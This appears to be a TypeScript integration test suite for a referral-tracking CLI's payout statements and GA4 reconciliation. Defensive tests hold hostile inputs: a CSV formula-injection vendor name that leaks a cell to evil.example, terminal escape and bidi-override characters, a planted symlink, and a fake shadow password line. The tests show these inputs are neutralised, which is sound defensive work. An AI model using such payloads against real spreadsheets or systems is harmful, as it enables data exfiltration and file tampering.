/**
 * `reftrack payouts` and `reftrack reconcile ga4` as processes, on exports written the real way:
 * events in DynamoDB Local -> the export stream consumer -> the local Firehose -> gzip objects
 * under dt=<business day>/ (with a redelivered batch, so lines repeat), rollups through the
 * aggregate consumer, and a GA4 CSV in GA4's own export layout.
 */
import { cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { gzipSync } from 'node:zlib';
import { UpdateItemCommand } from '@aws-sdk/client-dynamodb';
import { marshall } from '@aws-sdk/util-dynamodb';
import { beforeAll, describe, expect, it } from 'vitest';
import { dynamodb } from '../support/clients.ts';
import type { TableNames } from '../../adapters/provision.ts';
import { projectionKey } from '../../adapters/state-table.ts';
import { businessDay } from '../../core/business-day.ts';
import type { ClickEvent } from '../../core/click-event.ts';
import { toExportLine } from '../../core/export-record.ts';
import { freePort } from '../../local/free-port.ts';
import { startLocalFirehose } from '../../local/firehose-server.ts';
import { reftrack, recordAndAggregate } from '../support/analyst.ts';
import { click, type ClickSpec } from '../support/click-events.ts';
import { exportHandlerOn, insertRecordsFor, tmpDataDir } from '../support/export.ts';
import { freshTables } from '../support/tables.ts';
import { telemetry } from '../support/telemetry.ts';

const BUCKET = 'reftrack-exports';
const work = mkdtempSync(join(tmpdir(), 'reftrack-payouts-'));
const at = (p: string) => join(work, p);

const rules = {
  currency: 'USD',
  vendors: {
    solare: { rateCents: 125 },
    puesto: { rateCents: 300, monthlyCapCents: 500 },
    boardbrew: { rateCents: 40, minimumPayoutCents: 100 },
    smallgoods: { rateCents: 50, name: 'Small Goods' },
  },
};

function files(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const entry of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, entry.name);
      if (entry.isDirectory()) walk(p);
      else out[relative(dir, p)] = readFileSync(p, 'utf8');
    }
  };
  walk(dir);
  return out;
}

// Many CLI processes per test: slow on a loaded machine, so a generous per-test budget.
describe('payouts and GA4 reconciliation from exports written through the local Firehose', { timeout: 180_000 }, () => {
  let tables: TableNames;
  let root: string;
  const ev: Record<string, ClickEvent> = {};
  const specs: Record<string, ClickSpec> = {
    // solare: a twice on Nov 3 (qualified + repeat), a on Nov 4 (qualified again: a new day),
    // b a bot, c staff, d a prefetch then the real click (qualified) -> 3 qualified x 1.25 = 3.75.
    a1: { vendor: 'solare', visitor: 'a', at: '2026-11-03T17:00:00.000Z' },
    a2: { vendor: 'solare', visitor: 'a', at: '2026-11-03T17:05:00.000Z' },
    a3: { vendor: 'solare', visitor: 'a', at: '2026-11-04T17:00:00.000Z' },
    b: { vendor: 'solare', visitor: 'b', at: '2026-11-03T18:00:00.000Z', bot: true },
    c: { vendor: 'solare', visitor: 'c', at: '2026-11-03T19:00:00.000Z', internal: true },
    d1: { vendor: 'solare', visitor: 'd', at: '2026-11-05T19:00:00.000Z', bot: 'prefetch' },
    d2: { vendor: 'solare', visitor: 'd', at: '2026-11-05T19:00:01.000Z' },
    // puesto: 3 qualified x 3.00 = 9.00, capped at 5.00.
    p: { vendor: 'puesto', visitor: 'p', at: '2026-11-10T20:00:00.000Z' },
    q: { vendor: 'puesto', visitor: 'q', at: '2026-11-10T20:10:00.000Z' },
    r: { vendor: 'puesto', visitor: 'r', at: '2026-11-10T20:20:00.000Z' },
    // boardbrew: 2 x 0.40 = 0.80, below the 1.00 minimum: carried forward.
    x: { vendor: 'boardbrew', visitor: 'x', at: '2026-11-20T20:00:00.000Z' },
    y: { vendor: 'boardbrew', visitor: 'y', at: '2026-11-20T20:30:00.000Z' },
    // Outside November (local time): Oct 31 23:30 and Dec 1 00:30 in Los Angeles.
    oct: { vendor: 'solare', visitor: 'o', at: '2026-11-01T06:30:00.000Z' },
    dec: { vendor: 'boardbrew', visitor: 'z', at: '2026-12-01T08:30:00.000Z' },
  };

  beforeAll(async () => {
    tables = await freshTables();
    for (const [name, spec] of Object.entries(specs)) ev[name] = click(spec);
    const events = Object.values(ev);
    await recordAndAggregate(tables, events);

    const dataDir = tmpDataDir();
    const fh = await startLocalFirehose({ port: await freePort(), dataDir, bucket: BUCKET, bufferingIntervalMs: 3_600_000, logger: telemetry.logger });
    try {
      const { handler, client } = exportHandlerOn(fh.endpoint, { maxAttempts: 3, baseDelayMs: 5, maxDelayMs: 40 });
      const records = await insertRecordsFor(tables.events, events);
      expect((await handler({ Records: records })).batchItemFailures).toEqual([]);
      await fh.flush();
      // The event source mapping redelivers a batch (at least once): the same clicks arrive again, in new objects.
      expect((await handler({ Records: records.slice(0, 4) })).batchItemFailures).toEqual([]);
      client.destroy();
    } finally {
      await fh.stop();
    }
    root = join(dataDir, 's3', BUCKET);
    writeFileSync(at('rules.json'), JSON.stringify(rules, null, 2));
  });

  // Finance pays from the export alone: every run but --check-rollups gets a DynamoDB endpoint nothing listens on.
  const DEAD = { DYNAMODB_ENDPOINT: 'http://127.0.0.1:9' };
  const payouts = (...args: string[]) => reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', root, ...args], args.includes('--check-rollups') ? {} : DEAD);

  it('pays hand-computed amounts: rate, cap, minimum carried forward, duplicate deliveries dropped', async () => {
    const run = await payouts('--month', '2026-11', '--out', at('nov'));
    expect(run.code, run.stderr + run.stdout).toBe(0);
    const out = files(at('nov'));
    expect(Object.keys(out).sort()).toEqual([
      'audit/boardbrew.csv', 'audit/puesto.csv', 'audit/smallgoods.csv', 'audit/solare.csv', 'statements.csv',
      'statements/boardbrew.html', 'statements/puesto.html', 'statements/smallgoods.html', 'statements/solare.html', 'summary.json',
    ]);
    expect(out['statements.csv']!.split('\n')).toEqual([
      'vendor,name,month,clicks,bot_clicks,subresource_clicks,internal_clicks,suspicious_clicks,network_cap_clicks,duplicate_visitor_clicks,qualified_clicks,rate,earned,monthly_cap,cap_applied,bookings,booking_value,commission,clawback,carried_in,minimum_payout,amount,carried_forward,currency',
      'boardbrew,Boardbrew,2026-11,2,0,0,0,0,0,0,2,0.40,0.80,,false,0,0.00,0.00,0.00,0.00,1.00,0.00,0.80,USD',
      'puesto,Puesto,2026-11,3,0,0,0,0,0,0,3,3.00,9.00,5.00,true,0,0.00,0.00,0.00,0.00,0.00,5.00,0.00,USD',
      'smallgoods,Small Goods,2026-11,0,0,0,0,0,0,0,0,0.50,0.00,,false,0,0.00,0.00,0.00,0.00,0.00,0.00,0.00,USD',
      'solare,Solare,2026-11,7,2,0,1,0,0,1,3,1.25,3.75,,false,0,0.00,0.00,0.00,0.00,0.00,3.75,0.00,USD',
      '',
    ]);
    expect(out['audit/solare.csv']).toBe(`click_id,day,ts\n${ev.a1!.clickId},2026-11-03,${ev.a1!.ts}\n${ev.a3!.clickId},2026-11-04,${ev.a3!.ts}\n${ev.d2!.clickId},2026-11-05,${ev.d2!.ts}\n`);
    const summary = JSON.parse(out['summary.json']!);
    expect(summary.complete).toBe(true);
    expect(summary.lines).toEqual({ read: 16, unique: 12, duplicateDeliveries: 4, outsideMonth: 0 });
    expect(summary.totals).toMatchObject({ qualifiedClicks: 8, amountCents: 875, amount: '8.75', carriedForwardCents: 80 });
    expect(summary.rules.sha256).toMatch(/^[0-9a-f]{64}$/);
    // Only November's partitions were read; every object is named with its SHA-256.
    expect(summary.inputs.objects.length).toBeGreaterThanOrEqual(5);
    for (const o of summary.inputs.objects) {
      expect(o.key).toMatch(/^events\/dt=2026-11-\d\d\//);
      expect(o.sha256).toMatch(/^[0-9a-f]{64}$/);
    }
    expect(out['statements/puesto.html']).toContain('Monthly cap (applied)');
    expect(out['statements/boardbrew.html']).toContain('Carried forward to next month');
    expect(run.stdout).toMatch(/total 8\.75 USD; complete/);
  });

  it('the same exports give byte-identical output', async () => {
    expect((await payouts('--month', '2026-11', '--out', at('nov-again'))).code).toBe(0);
    expect(files(at('nov-again'))).toEqual(files(at('nov')));
  });

  it('carries the balance in from last month\'s summary.json', async () => {
    const dec = await payouts('--month', '2026-12', '--out', at('dec'), '--carry-in', at('nov/summary.json'));
    expect(dec.code, dec.stderr).toBe(0);
    // boardbrew: 1 x 0.40 + 0.80 carried in = 1.20, over the minimum: paid.
    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,0,0,0,1,0.40,0.40,,false,0,0.00,0.00,0.00,0.80,1.00,1.20,0.00,USD');
    // December is a draft until it has ended in the business time zone.
    const decEnded = businessDay(new Date(), 'America/Los_Angeles') > '2026-12-31';
    expect(JSON.parse(readFileSync(at('dec/summary.json'), 'utf8'))).toMatchObject({ complete: decEnded, monthEnded: decEnded });
    if (!decEnded) {
      expect(dec.stdout).toMatch(/DRAFT \(month not ended\)/);
      expect(dec.stderr).toMatch(/2026-12 has not ended yet .*: the statements are a draft, not for payment/);
      expect(readFileSync(at('dec/statements/boardbrew.html'), 'utf8')).toContain('Draft, not for payment:</strong> 2026-12 has not ended yet');
    }
    const wrong = await payouts('--month', '2026-12', '--out', at('dec2'), '--carry-in', at('dec/summary.json'));
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/is the summary of 2026-12; the carry-in for 2026-12 must be 2026-11's/);
  });

  it('--check-rollups agrees with true rollups and names every vendor/day of a tampered one (exit 1)', async () => {
    const clean = await payouts('--month', '2026-11', '--out', at('check'), '--check-rollups');
    expect(clean.code, clean.stdout + clean.stderr).toBe(0);
    expect(clean.stdout).toContain('rollups agree with the export for every vendor and day of 2026-11');
    await dynamodb.send(
      new UpdateItemCommand({ TableName: tables.state, Key: marshall(projectionKey(1, 'solare', '2026-11-04', 'L')), UpdateExpression: 'ADD qualifiedClicks :one, clicks :one', ExpressionAttributeValues: marshall({ ':one': 1 }) }),
    );
    const tampered = await payouts('--month', '2026-11', '--out', at('check'), '--check-rollups', '--replace');
    expect(tampered.code).toBe(1);
    expect(tampered.stdout).toMatch(/solare\s+2026-11-04\s+clicks\s+1\s+2/);
    expect(tampered.stdout).toMatch(/solare\s+2026-11-04\s+qualifiedClicks\s+1\s+2/);
    const differences = tampered.stdout.slice(tampered.stdout.indexOf('vendor-day(s) differ') - 2);
    expect(differences).toMatch(/1 vendor-day\(s\) differ/);
    expect(differences).not.toMatch(/puesto|boardbrew/);
    await dynamodb.send(
      new UpdateItemCommand({ TableName: tables.state, Key: marshall(projectionKey(1, 'solare', '2026-11-04', 'L')), UpdateExpression: 'ADD qualifiedClicks :minus, clicks :minus', ExpressionAttributeValues: marshall({ ':minus': -1 }) }),
    );
  });

  it('a truncated object and a bad line are reported with file and line; the rest is paid; exit 1', async () => {
    const damaged = mkdtempSync(join(tmpdir(), 'reftrack-damaged-'));
    cpSync(root, damaged, { recursive: true });
    const extra = click({ vendor: 'puesto', visitor: 's', at: '2026-11-12T20:00:00.000Z' });
    const part = join(damaged, 'events', 'dt=2026-11-12');
    mkdirSync(part, { recursive: true });
    writeFileSync(join(part, 'zz-bad-line.gz'), gzipSync(`${toExportLine(extra)}{"schema":"reftrack.click/1","clickId":\n`));
    const whole = gzipSync(Buffer.from(toExportLine(click({ vendor: 'solare', visitor: 't', at: '2026-11-12T21:00:00.000Z' })).repeat(50)));
    writeFileSync(join(part, 'zz-truncated.gz'), whole.subarray(0, Math.floor(whole.length / 2)));
    const run = await reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', damaged, '--month', '2026-11', '--out', at('damaged')]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`${join(damaged, 'events/dt=2026-11-12/zz-bad-line.gz')}:2: not JSON`);
    expect(run.stderr).toMatch(/zz-truncated\.gz: damaged gzip/);
    const summary = JSON.parse(readFileSync(at('damaged/summary.json'), 'utf8'));
    expect(summary.complete).toBe(false);
    expect(summary.problems.map((p: { key: string; line?: number }) => `${p.key}:${p.line ?? ''}`)).toContain('events/dt=2026-11-12/zz-bad-line.gz:2');
    // The readable line of the damaged object still counts: puesto has 4 qualified clicks now (still capped).
    expect(summary.vendors.find((v: { code: string }) => v.code === 'puesto').qualifiedClicks).toBe(4);
    expect(readFileSync(at('damaged/statements/solare.html'), 'utf8')).toContain('Draft, not for payment');
  });

  it('a vendor named like a spreadsheet formula or a terminal escape lands as text in statements.csv and on screen', async () => {
    const hostile = mkdtempSync(join(tmpdir(), 'reftrack-hostile-'));
    cpSync(root, hostile, { recursive: true });
    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"x")';
    const part = join(hostile, 'events', 'dt=2026-11-15');
    mkdirSync(part, { recursive: true });
    const named = (name: string, visitor: string) => ({ ...click({ vendor: 'smallgoods', visitor, at: '2026-11-15T20:00:00.000Z' }), vendorName: name });
    writeFileSync(join(part, 'hostile.gz'), gzipSync(toExportLine(named(formula, 'h1'))));
    const run = await reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', hostile, '--month', '2026-11', '--out', at('hostile')]);
    expect(run.code, run.stderr).toBe(0);
    const row = readFileSync(at('hostile/statements.csv'), 'utf8').split('\n').find((l) => l.startsWith('smallgoods,'))!;
    // Quoted per RFC 4180 and prefixed with an apostrophe: a spreadsheet shows it, never runs it.
    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,0,0,0,1,0.50,0.50,,false,0,0.00,0.00,0.00,0.00,0.00,0.50,0.00,USD`);
    expect(readFileSync(at('hostile/statements/smallgoods.html'), 'utf8')).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2,&quot;x&quot;)');

    // The same vendor renamed with an ANSI clear-screen, a C1 CSI and a right-to-left override.
    writeFileSync(join(part, 'hostile.gz'), gzipSync(toExportLine(named('Small\u001b[2J\u009b31m\u202eGoods', 'h2'))));
    const shown = await reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', hostile, '--month', '2026-11', '--out', at('hostile'), '--replace']);
    expect(shown.code, shown.stderr).toBe(0);
    expect(readFileSync(at('hostile/statements.csv'), 'utf8')).toContain('smallgoods,Small\u001b[2J\u009b31m\u202eGoods,');
    const cat = await reftrack(tables, ['exports', 'cat', '--day', '2026-11-15', '--source', hostile]);
    for (const out of [shown.stdout + shown.stderr, cat.stdout + cat.stderr]) expect(out).not.toMatch(/[\u001b\u009b\u202e]/);
    // exports cat escapes instead of dropping: the line still parses to the stored name.
    expect(JSON.parse(cat.stdout.trim()).vendorName).toBe('Small\u001b[2J\u009b31m\u202eGoods');
  }, 180_000);

  it('--out refuses a non-empty folder and a symlink, and never writes through a planted symlink', async () => {
    const victim = at('victim.txt');
    writeFileSync(victim, 'precious\n');
    mkdirSync(at('planted'));
    symlinkSync(victim, at('planted/statements.csv'));
    const refused = await payouts('--month', '2026-11', '--out', at('planted'));
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/--out: .*planted already exists and is not empty; .*--replace/);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');

    symlinkSync(at('nov'), at('link-to-nov'));
    const viaLink = await payouts('--month', '2026-11', '--out', at('link-to-nov'), '--replace');
    expect(viaLink.code).toBe(2);
    expect(viaLink.stderr).toMatch(/--out: .*link-to-nov is a symbolic link/);

    // Told to replace: the folder is swapped by rename; the planted link goes with the old folder.
    const replaced = await payouts('--month', '2026-11', '--out', at('planted'), '--replace');
    expect(replaced.code, replaced.stderr).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(lstatSync(at('planted/statements.csv')).isSymbolicLink()).toBe(false);
    expect(files(at('planted'))).toEqual(files(at('nov')));
    expect(readdirSync(work).filter((n) => n.includes('.tmp-') || n.includes('.old-'))).toEqual([]);

    mkdirSync(at('empty'));
    expect((await payouts('--month', '2026-11', '--out', at('empty'))).code).toBe(0);
    expect(existsSync(at('empty/summary.json'))).toBe(true);
  }, 180_000);

  it('a rules file that is not JSON is reported without echoing its bytes', async () => {
    writeFileSync(at('shadow'), 'root:$y$j9T$SECRETSALT$SECRETHASH:19700:0:99999:7:::\n');
    const bad = await reftrack(tables, ['payouts', '--rules', at('shadow'), '--exports', root, '--month', '2026-11', '--out', at('never2')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain(`${at('shadow')}: not valid JSON`);
    expect(bad.stderr).not.toMatch(/SECRET|\$y\$/);
  }, 180_000);

  it('a month without exports says so; bad arguments and bad rules exit 2', async () => {
    const empty = await payouts('--month', '2026-06', '--out', at('june'));
    expect(empty.code).toBe(1);
    expect(empty.stderr).toMatch(/no export objects for 2026-06 \(2026-06-01 to 2026-06-30\)/);

    writeFileSync(at('typo.json'), JSON.stringify({ currency: 'USD', vendors: { solar: { rateCents: 10 } } }));
    writeFileSync(at('float.json'), JSON.stringify({ currency: 'USD', vendors: { solare: { rateCents: 0.5 } } }));
    const cases: Array<[string[], RegExp]> = [
      [['--month', '2026-13', '--rules', at('rules.json'), '--out', at('x')], /--month: must be a month/],
      [['--month', '2026-11', '--out', at('x')], /--rules/],
      [['--month', '2026-11', '--rules', at('missing.json'), '--out', at('x')], /--rules: cannot read .*ENOENT/],
      [['--month', '2026-11', '--rules', at('float.json'), '--out', at('x')], /rateCents: must be a whole number of cents/],
      [['--month', '2026-11', '--rules', at('rules.json'), '--out', at('x'), '--bogus'], /bogus/],
    ];
    // A mistyped code in the rules: the real vendor has clicks and no rule (exit 1), and the stray rule is named.
    const typo = await reftrack(tables, ['payouts', '--exports', root, '--month', '2026-11', '--rules', at('typo.json'), '--out', at('typo')], DEAD);
    expect(typo.code).toBe(1);
    expect(typo.stderr).toMatch(/vendor solare has 7 clicks \(3 qualified\) in 2026-11 but no rule/);
    expect(typo.stderr).toMatch(/the rule for "solar" matches no click in 2026-11 \(a mistyped code\? vendors with clicks: boardbrew, puesto, solare\)/);
    for (const [args, message] of cases) {
      const r = await reftrack(tables, ['payouts', '--exports', root, ...args], DEAD);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr, args.join(' ')).toMatch(message);
      expect(r.stderr).toMatch(/usage: reftrack payouts/);
    }
  }, 180_000);

  it('reconcile ga4 matches sessions to clicks by ref_cid, flags likely reasons, reports a bad row (exit 1)', async () => {
    const ga4 = [
      '# ----------------------------------------',
      '# Vendor referrals',
      '# Free form 1',
      '# 20261101-20261130',
      '# ----------------------------------------',
      '',
      'Date,Session source,Session medium,Session campaign,ref_cid,Sessions',
      ',,,,,"1,241"',
      `20261103,solare,referral,vendor-referral,${ev.a1!.clickId},1`,
      `20261104,solare,referral,vendor-referral,${ev.a3!.clickId},1`,
      `20261105,solare,referral,vendor-referral,(not set),1`,
      `20261110,referral,puesto,(not set),${ev.p!.clickId},1`,
      `20261110,referral,puesto,(not set),(not set),1`,
      `20261103,solare,referral,vendor-referral,${ev.b!.clickId},1`,
      '20261120,google,organic,(organic),(not set),"1,234"',
      '2026-11-21,solare,referral,vendor-referral,(not set),1',
      '',
    ].join('\n');
    writeFileSync(at('ga4-export.csv'), ga4);
    const r = await reftrack(tables, ['reconcile', 'ga4', '--ga4', at('ga4-export.csv'), '--from', '2026-11-01', '--to', '2026-11-30', '--exports', root, '--out', at('reconcile.csv')], DEAD);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`${at('ga4-export.csv')}:16: date "2026-11-21" is not YYYYMMDD`);
    const csv = readFileSync(at('reconcile.csv'), 'utf8').trim().split('\n');
    expect(csv[0]).toBe('vendor,day,qualified_clicks,ga4_sessions,ratio,matched_click_ids,bot_clicks,other_human_clicks,seed_preset_sessions,flag,likely_reason');
    const row = (vendor: string, day: string) => csv.find((l) => l.startsWith(`${vendor},${day},`))!.split(',');
    // Nov 3: 1 qualified; GA4 saw 2 sessions (one from the bot click's ref_cid); matched 1.
    expect(row('solare', '2026-11-03').slice(0, 10)).toEqual(['solare', '2026-11-03', '1', '2', '2.00', '1', '1', '2', '0', 'ok']);
    expect(row('solare', '2026-11-04').slice(0, 10)).toEqual(['solare', '2026-11-04', '1', '1', '1.00', '1', '0', '0', '0', 'ok']);
    expect(row('solare', '2026-11-05').slice(0, 6)).toEqual(['solare', '2026-11-05', '1', '1', '1.00', '0']);
    expect(row('puesto', '2026-11-10').slice(0, 10)).toEqual(['puesto', '2026-11-10', '3', '2', '0.67', '1', '0', '0', '2', 'seed-preset-unassigned']);
    expect(row('boardbrew', '2026-11-20').slice(0, 10)).toEqual(['boardbrew', '2026-11-20', '2', '0', '0.00', '0', '0', '0', '0', 'missing-in-ga4']);
    expect(csv.some((l) => l.startsWith('solare,2026-11-21'))).toBe(false);
    expect(r.stdout).toMatch(/matched by ref_cid: 3 of 8 qualified clicks; 1 ref_cid values are no qualified click/);
    expect(r.stdout).toMatch(/Unassigned/);
    expect(r.stdout).toMatch(/consent banner/);
    expect(r.stdout).toMatch(/GA4 sessions from other sources: 1234/);

    // Clean file, clicks from the live rollups: counts compare, ids cannot.
    writeFileSync(at('ga4-clean.csv'), ga4.split('\n').filter((l) => !l.startsWith('2026-11-21')).join('\n'));
    const live = await reftrack(tables, ['reconcile', 'ga4', '--ga4', at('ga4-clean.csv'), '--from', '2026-11-01', '--to', '2026-11-30', '--out', at('reconcile-live.csv')]);
    expect(live.code, live.stderr).toBe(0);
    expect(readFileSync(at('reconcile-live.csv'), 'utf8')).toContain('puesto,2026-11-10,3,2,0.67,,0,0,2,seed-preset-unassigned');
    expect(live.stdout).toContain('live rollups');

    for (const args of [['reconcile'], ['reconcile', 'ga5', '--ga4', at('ga4-clean.csv'), '--from', '2026-11-01', '--to', '2026-11-30'], ['reconcile', 'ga4', '--ga4', at('nope.csv'), '--from', '2026-11-01', '--to', '2026-11-30'], ['reconcile', 'ga4', '--ga4', at('ga4-clean.csv'), '--from', '2026-11-30', '--to', '2026-11-01']]) {
      const bad = await reftrack(tables, args);
      expect(bad.code, args.join(' ')).toBe(2);
      expect(bad.stderr).toMatch(/usage: reftrack reconcile ga4/);
    }
  }, 180_000);
});
